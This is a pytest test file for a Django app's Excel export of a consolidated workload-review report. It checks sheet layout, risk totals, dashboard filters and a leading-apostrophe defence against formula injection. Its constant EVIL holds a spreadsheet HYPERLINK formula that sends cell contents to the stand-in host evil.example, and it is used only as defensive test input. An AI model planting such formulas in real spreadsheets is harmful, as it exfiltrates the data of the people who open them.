"""The consolidated report as an Excel workbook: built like the JSON report, read back."""

import io
from unittest import mock

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reviews.models import AnswerRisk, Report, Role
from reviews.reports.services import report_build, report_request
from reviews.services import workload_share
from reviews.tasks import report_build_task
from reviews.workbooks import CONTENT_TYPE
from tests.reports.test_consolidated import make_workload, set_risks

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def records(sheet) -> list[dict]:
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def two_workloads(workload, alice, bob):
    """Payments API (Alice's): sec1 and sec2 high, rel1 medium; Bob's workload named like a
    formula, shared read-only with Alice: sec1 high."""
    set_risks(workload, sec1=AnswerRisk.HIGH, sec2=AnswerRisk.HIGH, rel1=AnswerRisk.MEDIUM)
    evil = make_workload(bob, EVIL, environment="PREPRODUCTION", tags={"team": "+red"})
    workload_share(workload=evil, user=alice, role=Role.READONLY)
    set_risks(evil, sec1=AnswerRisk.HIGH)
    return {"payments": workload, "evil": evil}


def built(user, **filters) -> Report:
    report = report_request(
        user=user, kind=Report.Kind.CONSOLIDATED, format=Report.Format.XLSX, filters=filters
    )
    done = report_build(report_id=report.pk)
    assert done.status == Report.Status.DONE, done.error
    return done


def test_the_excel_report_holds_the_consolidated_numbers(two_workloads, alice, client):
    report = built(alice)
    client.force_login(alice)

    response = client.get(reverse("reviews:consolidated_download", args=[report.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPE
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert report.file.name.endswith(".xlsx")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == [
        "Summary",
        "Workloads",
        "Pillars per workload",
        "Pillars",
        "Most common risks",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert all(cell.font.bold for cell in sheet[1])
    summary = {row["Measure"]: row["Value"] for row in records(book["Summary"])}
    assert summary["Workloads"] == 2
    assert (summary["High risks"], summary["Medium risks"]) == (3, 1)
    assert summary["Environment"] == "Any"
    workloads = {row["Workload"]: row for row in records(book["Workloads"])}
    assert set(workloads) == {"Payments API", f"'{EVIL}"}
    payments = workloads["Payments API"]
    assert (payments["High risks"], payments["Medium risks"]) == (2, 1)
    assert payments["Environment"] == "Production" and payments["Owner"] == "alice"
    assert workloads[f"'{EVIL}"]["Tags"] == "team=+red"
    updated = book["Workloads"].cell(2, 6)
    assert updated.is_date
    pillars = {
        (row["Workload"], row["Pillar"]): row for row in records(book["Pillars per workload"])
    }
    assert pillars["Payments API", "Security"]["High risks"] == 2
    assert pillars["Payments API", "Reliability"]["Medium risks"] == 1
    portfolio = {row["Pillar"]: row for row in records(book["Pillars"])}
    assert portfolio["Security"]["High risks"] == 3 and portfolio["Security"]["Workloads"] == 2
    [first, *_] = records(book["Most common risks"])
    assert (first["Question ID"], first["Workloads"], first["High"]) == ("sec1", 2, 2)


def test_every_text_cell_of_the_excel_report_is_text(two_workloads, alice):
    report = built(alice)

    with report.file.open("rb") as file:
        book = load_workbook(io.BytesIO(file.read()))

    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = [cell.value for cell in book["Workloads"]["A"][1:]]
    assert f"'{EVIL}" in names


def test_the_excel_report_takes_the_dashboards_filters(two_workloads, alice):
    report = built(alice, environment="PRODUCTION")

    with report.file.open("rb") as file:
        book = load_workbook(io.BytesIO(file.read()))

    assert [row["Workload"] for row in records(book["Workloads"])] == ["Payments API"]
    summary = {row["Measure"]: row["Value"] for row in records(book["Summary"])}
    assert summary["Environment"] == "Production" and "Lens" not in summary


def test_the_report_page_offers_the_excel_format(client, alice, workload):
    client.force_login(alice)

    page = client.get(reverse("reviews:consolidated_reports")).content.decode()
    assert '<option value="XLSX">Excel</option>' in page
    with mock.patch.object(report_build_task, "apply_async"):
        client.post(reverse("reviews:consolidated_reports"), {"format": "XLSX"})

    report = Report.objects.get(requested_by=alice)
    assert report.format == Report.Format.XLSX
    listing = client.get(reverse("reviews:consolidated_reports")).content.decode()
    assert "Consolidated Excel" in listing
